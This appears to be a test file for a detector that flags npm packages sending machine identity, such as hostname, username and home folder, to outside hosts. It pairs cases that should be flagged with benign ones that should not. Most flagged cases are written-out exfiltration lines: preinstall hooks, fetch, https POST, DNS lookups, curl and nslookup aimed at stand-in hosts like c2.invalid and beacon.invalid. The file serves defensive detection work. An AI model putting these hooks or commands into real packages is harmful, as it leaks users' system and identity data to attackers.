import { examine } from '../../../test/examine.ts';
import { sendsSystemIdentity } from './sends-system-identity.ts';

const hook = { name: 'specimen', version: '99.0.0', scripts: { preinstall: 'node setup.js' } };

examine(sendsSystemIdentity, {
  speaks: [
    {
      when: 'an import sends one mark, under its name on each system',
      files: { 'index.js': `const home = process.env.USERPROFILE || process.env.HOME; fetch('https://collect.invalid/?h=' + home);` },
      weight: 'weak',
    },
    {
      when: 'an import sends the folder of its user and the name that the machine has on each system',
      files: {
        'index.js': `const name = process.env.COMPUTERNAME || process.env.HOSTNAME; fetch('https://collect.invalid/?h=' + process.env.HOME + '&n=' + name);`,
      },
      weight: 'strong',
    },
    {
      when: 'a hook posts who and where it is',
      files: {
        'package.json': hook,
        'setup.js': `const os = require('os'); const r = require('https').request({ hostname: 'c2.invalid', method: 'POST' }); r.write(JSON.stringify({ h: os.hostname(), u: os.userInfo().username })); r.end()`,
      },
      weight: 'proof',
      says: ['os.hostname', 'c2.invalid'],
    },
    {
      when: 'a hook looks up a name made of it',
      files: { 'package.json': hook, 'setup.js': `require('dns').resolve(require('os').hostname() + '.c2.invalid', () => {})` },
      weight: 'strong',
    },
    {
      when: 'an import sends two marks',
      files: { 'index.js': `const os = require('os'); fetch('https://c2.invalid/?' + os.hostname() + os.userInfo().username)` },
      weight: 'strong',
    },
    { when: 'an import sends one mark', files: { 'index.js': `fetch('https://c2.invalid/?' + require('os').hostname())` }, weight: 'weak' },
    {
      when: 'the answer of a command is sent',
      files: {
        'package.json': hook,
        'setup.js': `require('child_process').exec('whoami', (e, out) => fetch('https://c2.invalid/' + out))`,
      },
      weight: 'strong',
    },
    {
      when: 'a command carries it away',
      files: { 'package.json': hook, 'setup.js': `require('child_process').exec('curl http://192.0.2.1/' + require('os').hostname())` },
      weight: 'strong',
    },
    {
      when: 'a hook asks the shell for it and sends it',
      files: {
        'package.json': { name: '@specimen/tokens', scripts: { preinstall: 'curl -s "http://beacon.invalid/?h=$(hostname)&u=$(whoami)"' } },
      },
      weight: 'proof',
    },
    {
      when: 'a call puts two marks into a name of a domain',
      files: {
        'index.js': `const os = require('os'); exports.ask = () => require('dns').lookup(os.hostname() + '.' + os.userInfo().username + '.c2.invalid', () => {})`,
      },
      weight: 'strong',
    },
    {
      when: 'a name is looked up',
      files: { 'package.json': { name: 'specimen', scripts: { preinstall: 'nslookup `whoami`.beacon.invalid' } } },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'telemetry sends it when called',
      files: {
        'index.js': `exports.track = () => fetch('https://telemetry.invalid/', { method: 'POST', body: require('os').hostname() })`,
      },
    },
    {
      when: 'a call looks up what the machine is called in its own network',
      files: {
        'index.js': `const os = require('os'); exports.find = () => require('dns').lookup(os.hostname() + '-' + os.userInfo().username + '.local', () => {})`,
      },
    },
    {
      when: 'a bundle does both and joins neither',
      files: { 'index.js': `exports.name = require('os').hostname(); fetch('https://api.invalid/')` },
    },
    {
      when: 'only the platform is sent',
      files: { 'index.js': `fetch('https://api.invalid/binary-' + process.platform + '-' + process.arch)` },
    },
    {
      when: 'a hook looks which system it is and downloads for it',
      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'echo "building on $(hostname)" && node build.js' } } },
    },
    { when: 'a command asks this machine', files: { 'index.js': `require('child_process').exec('curl http://localhost:3000/?u=$USER')` } },
  ],
});
